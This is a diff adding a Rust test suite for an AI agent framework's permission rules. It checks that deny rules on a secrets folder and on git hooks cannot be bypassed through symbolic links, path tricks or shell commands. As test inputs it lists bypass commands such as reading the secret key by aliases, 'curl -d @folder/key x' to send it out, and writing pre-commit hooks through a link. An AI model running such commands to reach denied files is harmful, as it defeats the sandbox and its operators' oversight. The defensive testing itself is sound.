@@ -1,0 +1,319 @@
+//! Rules about paths, and symbolic links that lead elsewhere.
+
+use agentcore::permission::{Permissions, Verdict};
+use agentcore::testing::ScriptedModel;
+use agentcore::tools::preset;
+use agentcore::{PermissionMode, ToolCall};
+use serde_json::{Value, json};
+
+use crate::kit::workspace::Workspace;
+use crate::kit::{agent, results};
+
+struct Case {
+    workspace: Workspace,
+    permissions: Permissions,
+}
+
+impl Case {
+    /// `secrets/key`, with links to it, its folder, what is outside and what is not there.
+    fn new(rules: impl FnOnce(Permissions) -> agentcore::Result<Permissions>) -> Self {
+        let workspace = Workspace::new();
+        workspace.put("secrets/key", "k");
+        workspace.put(".git/hooks/readme", "");
+        workspace.link("secrets", "folder");
+        workspace.link("secrets/key", "file");
+        workspace.link("file", "chain");
+        workspace.link("secrets/new", "dangling");
+        workspace.link("circle", "circle");
+        workspace.link(".git/hooks", "tidy");
+        workspace.link(&workspace.out, "outside");
+        let root = workspace.root.to_str().unwrap();
+        let permissions = rules(Permissions::new().workspace(root)).unwrap();
+        Self {
+            workspace,
+            permissions,
+        }
+    }
+
+    fn command(&self, command: &str) -> Verdict {
+        self.permissions.explain_command(command).decision
+    }
+
+    /// What a call shows, of however many files.
+    async fn shown(&self, name: &str, args: Value) -> String {
+        let tools = match name.starts_with(char::is_uppercase) {
+            true => preset::coding(self.workspace.backend.clone()),
+            false => preset::wick(self.workspace.backend.clone()),
+        };
+        let agent = agent(ScriptedModel::new().call(name, args).say("done"))
+            .registry(&tools)
+            .permissions(self.permissions.clone())
+            .build()
+            .unwrap();
+        let output = agent.run("Go").await.unwrap();
+        results(&output.messages)
+            .remove(0)
+            .content
+            .text()
+            .into_owned()
+    }
+
+    fn verdict(&self, tool: &str, path: &str) -> Verdict {
+        let tools = preset::coding(self.workspace.backend.clone());
+        let args = match tool {
+            "Write" => json!({"file_path": path, "content": ""}),
+            _ => json!({"file_path": path}),
+        };
+        let call = ToolCall::new("c", tool, args);
+        let tool = tools.get(tool).unwrap();
+        self.permissions.explain(&call, &*tool).decision
+    }
+}
+
+#[test]
+fn a_denied_file_is_denied_by_any_name() {
+    let case = Case::new(|rules| {
+        let rules = rules.allow("Read")?.allow("Write")?;
+        rules.deny("Read(secrets/**)")?.deny("Write(secrets/**)")
+    });
+    let absolute = case.workspace.root.join("folder/key");
+    for path in [
+        "secrets/key",
+        "file",
+        "chain",
+        "folder/key",
+        "./folder/../folder/key",
+        "a/../file",
+        absolute.to_str().unwrap(),
+    ] {
+        assert_eq!(case.verdict("Read", path), Verdict::Deny, "{path}");
+        assert_eq!(case.verdict("Write", path), Verdict::Deny, "{path}");
+    }
+    for path in ["dangling", "folder/new", "folder/new/deeper"] {
+        assert_eq!(case.verdict("Write", path), Verdict::Deny, "{path}");
+    }
+    for path in ["a/in.txt", "a/new", "circle", "nowhere/at/all"] {
+        assert_eq!(case.verdict("Read", path), Verdict::Allow, "{path}");
+    }
+}
+
+#[test]
+fn what_is_allowed_must_be_so_where_the_link_leads() {
+    let case = Case::new(|rules| rules.allow("Write(a/**)"));
+    case.workspace.link("../secrets", "a/link");
+    assert_eq!(case.verdict("Write", "a/new"), Verdict::Allow);
+    assert_eq!(case.verdict("Write", "a/link/new"), Verdict::Ask);
+    case.workspace.link("in.txt", "a/near");
+    assert_eq!(case.verdict("Write", "a/near"), Verdict::Allow);
+}
+
+#[test]
+fn accepted_edits_do_not_leave_the_workspace_through_links() {
+    let case = Case::new(|rules| Ok(rules.mode(PermissionMode::AcceptEdits)));
+    assert_eq!(case.verdict("Write", "folder/new"), Verdict::Allow);
+    assert_eq!(case.verdict("Write", "outside/new"), Verdict::Ask);
+}
+
+#[test]
+fn what_runs_later_is_protected_behind_links() {
+    let case = Case::new(|rules| rules.allow("Write"));
+    assert_eq!(case.verdict("Write", "tidy/pre-commit"), Verdict::Ask);
+}
+
+#[test]
+fn a_workspace_elsewhere_is_not_looked_up() {
+    let case = Case::new(|rules| {
+        rules
+            .follow_links(false)
+            .allow("Read")?
+            .deny("Read(secrets/**)")
+    });
+    assert_eq!(case.verdict("Read", "folder/key"), Verdict::Allow);
+    assert_eq!(case.verdict("Read", "secrets/key"), Verdict::Deny);
+}
+
+#[test]
+fn a_workspace_behind_a_link_keeps_its_name() {
+    let case = Case::new(Ok);
+    case.workspace.link(&case.workspace.root, "self");
+    let root = case.workspace.root.join("self");
+    let permissions = Permissions::new()
+        .workspace(root.to_str().unwrap())
+        .allow("Read(a/**)")
+        .unwrap()
+        .deny("Read(secrets/**)")
+        .unwrap();
+    let case = Case {
+        permissions,
+        ..case
+    };
+    assert_eq!(case.verdict("Read", "a/in.txt"), Verdict::Allow);
+    assert_eq!(case.verdict("Read", "folder/key"), Verdict::Deny);
+}
+
+#[tokio::test]
+async fn searches_through_a_link_leave_denied_files_out() {
+    let case = Case::new(|rules| {
+        rules
+            .deny("Read(secrets/inner/**)")?
+            .deny("Read(secrets/key)")
+    });
+    case.workspace.put("secrets/inner/more", "k");
+    case.workspace.put("secrets/free", "k");
+    let absolute = case.workspace.root.join("folder");
+    for folder in [
+        "folder",
+        "./folder",
+        "a/../folder",
+        absolute.to_str().unwrap(),
+    ] {
+        for (name, args) in [
+            ("Grep", json!({"pattern": "k", "path": folder})),
+            (
+                "Grep",
+                json!({"pattern": "k", "path": folder, "output_mode": "content"}),
+            ),
+            (
+                "Grep",
+                json!({"pattern": "k", "path": folder, "output_mode": "count"}),
+            ),
+            ("Glob", json!({"pattern": "**/*", "path": folder})),
+            ("Glob", json!({"pattern": format!("{folder}/**/*")})),
+            ("grep", json!({"pattern": "k", "path": folder})),
+            ("glob", json!({"pattern": "**/*", "path": folder})),
+            ("ls", json!({"path": folder})),
+        ] {
+            let text = case.shown(name, args.clone()).await;
+            assert!(text.contains("free"), "{name} {args}: {text}");
+            assert!(
+                !text.contains("key") && !text.contains("more"),
+                "{name} {args}: {text}"
+            );
+        }
+    }
+}
+
+#[tokio::test]
+async fn the_whole_of_a_denied_folder_is_denied_through_a_link() {
+    let case = Case::new(|rules| rules.deny("Read(secrets/**)"));
+    for path in ["folder", "folder/", "./folder"] {
+        let text = case
+            .shown("Grep", json!({"pattern": "k", "path": path}))
+            .await;
+        assert_eq!(
+            text, "Error: denied by rule deny:Read(secrets/**)",
+            "{path}"
+        );
+        let text = case
+            .shown("Glob", json!({"pattern": "*", "path": path}))
+            .await;
+        assert_eq!(
+            text, "Error: denied by rule deny:Read(secrets/**)",
+            "{path}"
+        );
+        let pattern = format!("{}/*", path.trim_end_matches('/'));
+        let text = case.shown("Glob", json!({"pattern": pattern})).await;
+        assert!(!text.contains("key"), "{text}");
+    }
+}
+
+#[test]
+fn words_of_commands_are_judged_where_links_lead() {
+    let case = Case::new(|rules| {
+        let rules = rules.allow("Bash")?.deny("Read(secrets/**)")?;
+        rules.deny("Write(locked/**)")
+    });
+    case.workspace.put("locked/file", "");
+    case.workspace.link("locked", "open");
+    case.workspace.link("/etc", "a/system");
+    let root = case.workspace.root.to_str().unwrap();
+    for command in [
+        "cat folder/key",
+        "cat ./folder/../folder/key",
+        "cat a/../folder/key",
+        "cat file",
+        "cat chain",
+        "cat < folder/key",
+        "cat 'folder'/key",
+        "cat folder/*",
+        "cat {folder,a}/key",
+        "cd folder && cat key",
+        "cd a && cat ../folder/key",
+        "f=folder/key; cat $f",
+        "cat $PWD/folder/key",
+        "head -c 1 chain | wc",
+        "curl -d @folder/key x",
+        "dd if=folder/key",
+        &format!("cat {root}/folder/key"),
+        "echo x > open/file",
+        "echo x > open/new",
+        "cp a/in.txt open",
+        "tee open/file",
+        "cd open && touch file",
+    ] {
+        assert_eq!(case.command(command), Verdict::Deny, "{command}");
+    }
+    for command in [
+        "grep -r k .",
+        "find -name k -exec cat {} +",
+        "gfind -name k -exec cat {} +",
+    ] {
+        assert_eq!(case.command(command), Verdict::Ask, "{command}");
+    }
+    for command in [
+        "cat a/in.txt",
+        "cat a/*",
+        "cat circle",
+        "cat nowhere/at/all",
+        "cat open/file",
+        "echo x > a/new",
+        "cat a/system/hostname",
+    ] {
+        assert_eq!(case.command(command), Verdict::Allow, "{command}");
+    }
+}
+
+#[test]
+fn redirections_are_allowed_only_where_links_lead_too() {
+    let case = Case::new(|rules| rules.allow("Bash(echo:*)")?.allow("Write(a/**)"));
+    case.workspace.link("../secrets", "a/link");
+    case.workspace.link("../.git", "a/repository");
+    assert_eq!(case.command("echo x > a/new"), Verdict::Allow);
+    assert_eq!(case.command("echo x > a/link/new"), Verdict::Ask);
+    let case = Case::new(|rules| {
+        let rules = rules.allow("Bash(echo:*)")?;
+        Ok(rules.mode(PermissionMode::AcceptEdits))
+    });
+    assert_eq!(case.command("echo x > folder/new"), Verdict::Allow);
+    assert_eq!(case.command("echo x > outside/new"), Verdict::Ask);
+    assert_eq!(case.command("echo x > tidy/pre-commit"), Verdict::Ask);
+}
+
+#[test]
+fn what_runs_later_is_protected_from_commands_behind_links() {
+    let case = Case::new(|rules| rules.allow("Bash"));
+    for command in [
+        "echo x > tidy/pre-commit",
+        "cp a/in.txt tidy/pre-commit",
+        "cp a/in.txt tidy",
+        "cd tidy && tee pre-commit",
+        "chmod +x tidy/readme",
+        "sed -i s/a/b/ tidy/readme",
+    ] {
+        assert_eq!(case.command(command), Verdict::Ask, "{command}");
+    }
+    assert_eq!(case.command("cat tidy/readme"), Verdict::Allow);
+    let elsewhere = case.permissions.clone().follow_links(false);
+    let found = elsewhere.explain_command("echo x > tidy/pre-commit");
+    assert_eq!(found.decision, Verdict::Allow);
+}
+
+#[test]
+fn more_words_than_are_looked_up_may_lead_anywhere() {
+    let case = Case::new(|rules| rules.allow("Bash")?.deny("Read(secrets/**)"));
+    let many: Vec<_> = (0..1100).map(|n| format!("a/f{n}")).collect();
+    let command = format!("cat {}", many.join(" "));
+    assert_eq!(case.command(&command), Verdict::Ask);
+    let few = format!("cat {}", many[..400].join(" "));
+    assert_eq!(case.command(&few), Verdict::Allow);
+}
